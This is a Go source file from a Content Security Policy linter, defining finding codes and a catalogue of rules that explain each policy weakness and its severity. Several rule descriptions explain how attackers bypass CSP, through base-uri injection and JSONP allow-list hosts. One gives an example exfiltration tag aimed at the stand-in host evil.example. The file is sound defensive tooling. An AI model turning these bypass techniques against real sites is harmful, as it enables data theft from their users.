package lint

// The codes Check reports. CSP1xxx are about connect requests (scope
// Connect); CSP2xxx are about what scripts and plugins may do, under
// default-src or the script directives (scope Scripts); CSP3xxx are about how any directive is written (scope
// Writing); CSP4xxx are about what the other fetch directives let a page
// load (scope Loads).
const (
	Unrestricted         Code = "CSP1001"
	ReportOnly           Code = "CSP1002"
	AnyHost              Code = "CSP1003"
	NetworkScheme        Code = "CSP1004"
	LocalScheme          Code = "CSP1005"
	Plaintext            Code = "CSP1006"
	PublicSuffixWildcard Code = "CSP1007"
	IPHost               Code = "CSP1008"
	Loopback             Code = "CSP1009"
	AnyPort              Code = "CSP1010"
	LooserThanDefault    Code = "CSP1011"
	PathAfterRedirect    Code = "CSP1012"
	NoConnectEffect      Code = "CSP1013"
	NoReporting          Code = "CSP1014"
	ReportToOnly         Code = "CSP1015"
	InsecureReportURI    Code = "CSP1016"
	ShortNonce           Code = "CSP1017"
	SandboxedSelf        Code = "CSP1018"
	DefaultUnsafeInline  Code = "CSP2001"
	DefaultUnsafeEval    Code = "CSP2002"
	DefaultBroadScripts  Code = "CSP2003"
	ScriptsUnrestricted  Code = "CSP2004"
	InlineScripts        Code = "CSP2005"
	EvalScripts          Code = "CSP2006"
	NoBaseURI            Code = "CSP2007"
	ShortCodeNonce       Code = "CSP2008"
	BypassHost           Code = "CSP2009"
	UnquotedKeyword      Code = "CSP3001"
	SchemeAsHost         Code = "CSP3002"
	MissingSemicolon     Code = "CSP3003"
	DeprecatedDirective  Code = "CSP3004"
	DuplicateSource      Code = "CSP3005"
	RedundantSource      Code = "CSP3006"
	ScriptsFromAnywhere  Code = "CSP4001"
	PluginsFromAnywhere  Code = "CSP4002"
	LoadsFromAnywhere    Code = "CSP4003"
)

// Rule documents one Code: what it finds, how severe it is, and which
// csp_evaluator finding types it corresponds to.
type Rule struct {
	Code      Code
	Severity  Severity
	Scope     Scope
	Title     string // a few words
	Detail    string // what triggers it and why it matters
	Evaluator string // the csp_evaluator finding types it covers, or ""
}

var rules = [...]Rule{
	{Unrestricted, High, Connect, "Connections unrestricted",
		"No enforced policy has connect-src or default-src, so the page may connect anywhere: injected script can send data to any server.",
		"none (csp_evaluator has no connect-src check)"},
	{ReportOnly, Medium, Connect, "Connect restrictions only report-only",
		"Only a report-only policy restricts connect requests: violations are reported but every request proceeds.",
		""},
	{AnyHost, High, Connect, "Any host",
		"The governing directive has `*` or a host-source whose host is `*` (such as `https://*`): connections to every host on the web are allowed.",
		"PLAIN_WILDCARD (for default-src)"},
	{NetworkScheme, High, Connect, "Bare network scheme",
		"A scheme-source `https:`, `http:`, `wss:` or `ws:` allows every host with that scheme.",
		"PLAIN_URL_SCHEMES (for default-src)"},
	{LocalScheme, Medium, Connect, "Bare data:, blob: or filesystem: scheme",
		"`data:`, `blob:` or `filesystem:` lets the page fetch content it built itself, which hides what is loaded from review; CSP guidance says not to allow them in connect-src.",
		"PLAIN_URL_SCHEMES (data:, for default-src)"},
	{Plaintext, Medium, Connect, "Plaintext source",
		"A host-source with scheme `http://` or `ws://`: the traffic can be read and changed on the network, and browsers block it from https pages as mixed content anyway (images, audio and video they upgrade to https: or load as they are).",
		"SRC_HTTP"},
	{PublicSuffixWildcard, High, Connect, "Wildcard on a public suffix",
		"A wildcard host such as `*.com`, `*.github.io` or `*.appspot.com` whose base is a public suffix (or whose children are): anyone can register a host it matches.",
		""},
	{IPHost, Low, Connect, "IP address host",
		"A host-source names an IP address: it is tied to one server's address, and browsers differ on whether IP hosts match.",
		"IP_SOURCE"},
	{Loopback, Info, Connect, "Loopback host",
		"A host-source names localhost or a loopback address: usually a development leftover; in production it lets pages reach services on the visitor's own machine.",
		"IP_SOURCE (127.0.0.1)"},
	{AnyPort, Medium, Connect, "Any port",
		"A host-source with port `*` allows every port on the host, including internal services that listen there.",
		""},
	{LooserThanDefault, Info, Connect, "connect-src looser than default-src",
		"connect-src allows a source that default-src (other than 'none') does not cover: connections are less restricted than other fetches. Often intended (an API host); worth a look when the source is broad.",
		""},
	{PathAfterRedirect, Info, Connect, "Path does not constrain redirects",
		"A host-source has a path. After a redirect browsers ignore paths, so an open redirect on the host reaches any path there. A path still narrows direct requests, so it is worth having: this is information, not a weakness.",
		""},
	{NoConnectEffect, Low, Connect, "Keyword or nonce without effect on connections",
		"connect-src holds a nonce, a hash or a keyword other than 'self' and 'none'; they never allow or block a connect request. (In default-src they are not reported: they apply to the scripts and styles that fall back to it.)",
		"SCRIPT_UNSAFE_INLINE, SCRIPT_UNSAFE_EVAL, SCRIPT_UNSAFE_HASHES, STRICT_DYNAMIC_NOT_STANDALONE (script-only keywords: no effect in connect-src)"},
	{NoReporting, Info, Connect, "No reporting",
		"A policy restricts connect requests but has neither report-uri nor report-to, so blocked requests go unnoticed.",
		"REPORTING_DESTINATION_MISSING"},
	{ReportToOnly, Info, Connect, "report-to without report-uri",
		"A policy reports only through report-to, which not every browser supports for CSP; add report-uri as well.",
		"REPORT_TO_ONLY"},
	{InsecureReportURI, Medium, Connect, "Plaintext report-uri",
		"report-uri sends violation reports (which hold page and request URLs) over plain http.",
		"SRC_HTTP (report-uri)"},
	{ShortNonce, Medium, Connect, "Short nonce",
		"A nonce in connect-src or default-src is shorter than 8 characters, too short to be unguessable.",
		"NONCE_LENGTH"},
	{SandboxedSelf, High, Connect, "'self' on a sandboxed page",
		"An enforced policy sandboxes the page without allow-same-origin, so the page's origin is opaque, and the directive that governs connect requests has 'self'. Safari (WebKit) then lets 'self' match every https: and wss: URL on any host (recorded from WebKitGTK 2.50), while Chromium and Firefox keep the page URL's origin and CSP3 matches nothing: in Safari the page may connect anywhere over https.",
		""},
	{DefaultUnsafeInline, High, Scripts, "default-src allows inline scripts",
		"There is no script-src, so default-src governs scripts, and it has 'unsafe-inline' without a nonce or hash: injected inline scripts run.",
		"SCRIPT_UNSAFE_INLINE (via default-src)"},
	{DefaultUnsafeEval, Medium, Scripts, "default-src allows eval",
		"There is no script-src, so default-src governs scripts, and it has 'unsafe-eval': strings become code through eval() and similar.",
		"SCRIPT_UNSAFE_EVAL (via default-src)"},
	{DefaultBroadScripts, High, Scripts, "default-src allows scripts from anywhere",
		"There is no script-src or no object-src, so default-src governs scripts or plugins, and it has `*` or `http:`, `https:` or `data:`: scripts can load from anywhere.",
		"PLAIN_WILDCARD, PLAIN_URL_SCHEMES (via default-src)"},
	{ScriptsUnrestricted, High, Scripts, "Scripts or plugins unrestricted",
		"No enforced policy has script-src (or object-src) nor default-src, so scripts (or plugins) load from anywhere; script injection then leads straight to exfiltration through whatever connect-src allows.",
		"MISSING_DIRECTIVES (script-src, object-src)"},
	{InlineScripts, High, Scripts, "Inline scripts allowed",
		"script-src, script-src-elem or script-src-attr has 'unsafe-inline' without a nonce, a hash or 'strict-dynamic' (any of which makes browsers ignore it): injected inline scripts or event handlers run.",
		"SCRIPT_UNSAFE_INLINE"},
	{EvalScripts, Medium, Scripts, "eval allowed",
		"script-src has 'unsafe-eval': strings become code through eval() and similar.",
		"SCRIPT_UNSAFE_EVAL"},
	{NoBaseURI, High, Scripts, "base-uri missing",
		"A policy lets script elements run by nonce, or by hash with 'strict-dynamic' (in script-src-elem, else script-src, else default-src), but neither it nor any enforced policy has base-uri. Injected markup can then add a `<base href>` that points every relative URL at the attacker's server: a nonced `<script src=\"/app.js\">`, or a script that a trusted one adds, loads from there and runs. Set base-uri 'none' (or 'self'). Only the presence of base-uri is checked.",
		"MISSING_DIRECTIVES (base-uri)"},
	{ShortCodeNonce, Medium, Scripts, "Short script or style nonce",
		"A nonce in script-src, script-src-elem, style-src or style-src-elem is shorter than 8 characters, so an attacker can guess it and run injected code or styles. (CSP1017 covers connect-src and default-src; a nonce is reported once, in the directive it stands in. That a nonce is new for every response no single header shows: `csptest.FreshNonces` checks it.)",
		"NONCE_LENGTH"},
	{BypassHost, High, Scripts, "Script allow-list bypass host",
		"script-src or script-src-elem (or default-src, when the policy has neither) allows a host that csp_evaluator lists as serving JSONP endpoints or AngularJS libraries, and the source's path (when it has one) allows the listed endpoint: injected markup loads it with a script tag and runs code of its choice, so the allow-list protects nothing. JSONP endpoints that csp_evaluator marks as needing eval count only when the policy allows 'unsafe-eval'. Not reported where 'strict-dynamic' with a nonce or hash makes browsers ignore hosts. The hosts come from csp_evaluator's allowlist_bypasses/jsonp.ts and angular.ts; a host not listed may still serve JSONP or user uploads.",
		"SCRIPT_ALLOWLIST_BYPASS"},
	{UnquotedKeyword, Medium, Writing, "Keyword without quotes",
		"A source list holds `self`, `none`, `unsafe-inline`, `nonce-...` or another keyword, nonce or hash without its single quotes. Browsers read it as a host name, so the keyword does not apply (and `self` allows a host named self).",
		"INVALID_KEYWORD (unquoted)"},
	{SchemeAsHost, Medium, Writing, "Scheme written as a host",
		"A source list holds `https`, `wss`, `data` or another scheme without its colon. Browsers read it as a host name, not as the scheme-source `https:`.",
		""},
	{MissingSemicolon, Medium, Writing, "Directive name inside a value",
		"A source list holds a directive name such as `img-src`, probably because a `;` is missing before it: browsers read the name and the sources after it as hosts of the directive before.",
		"MISSING_SEMICOLON"},
	{DeprecatedDirective, Low, Writing, "Deprecated directive",
		"`block-all-mixed-content` is deprecated: Chromium still enforces it (and reports its blocks as CSP violations), Firefox and WebKit ignore it, and every browser blocks mixed content anyway. Use `upgrade-insecure-requests` where upgrading is wanted. (Directives no browser enforces any more are `csp` parse problems, `unsupported-directive`.)",
		"DEPRECATED_DIRECTIVE (block-all-mixed-content)"},
	{DuplicateSource, Info, Writing, "Duplicate source",
		"A directive lists the same source expression twice (compared in canonical form, so case does not hide it).",
		""},
	{RedundantSource, Info, Writing, "Redundant source",
		"A directive lists a source that another source of the same directive already covers in every engine, such as `https://example.com:443` beside `https://example.com` or `https://api.example.com` beside `https://*.example.com`: it allows nothing more.",
		""},
	{ScriptsFromAnywhere, High, Loads, "Scripts from anywhere",
		"script-src, script-src-elem or worker-src has `*`, a host-source whose host is `*`, or a bare `http:`, `https:` or `data:`: an injected script tag runs code from any server (or from a data: URL it wrote itself). Not reported for script-src or script-src-elem with 'strict-dynamic' and a nonce or hash, where browsers ignore host and scheme sources.",
		"PLAIN_WILDCARD, PLAIN_URL_SCHEMES (script-src)"},
	{PluginsFromAnywhere, High, Loads, "Plugins from anywhere",
		"object-src has `*`, a host-source whose host is `*`, or a bare `http:`, `https:` or `data:`: `<object>` and `<embed>` load content from any server. Set object-src 'none'.",
		"PLAIN_WILDCARD, PLAIN_URL_SCHEMES (object-src)"},
	{LoadsFromAnywhere, Low, Loads, "Images, media, fonts, styles or frames from anywhere",
		"img-src, media-src, font-src, style-src(-elem), frame-src, child-src or manifest-src has `*`, a host-source whose host is `*`, or a bare `http:` or `https:`. Common and often intended, but each such load is a request to any server that injected markup controls, so connect-src alone does not keep data in: an `<img src=https://evil.example/?secret>` sends it.",
		""},
}

// Rules returns the catalogue: every Code Check can report, in code order.
func Rules() []Rule {
	out := make([]Rule, len(rules))
	copy(out, rules[:])
	return out
}

func ruleOf(c Code) (Rule, bool) {
	for _, r := range rules {
		if r.Code == c {
			return r, true
		}
	}
	return Rule{}, false
}
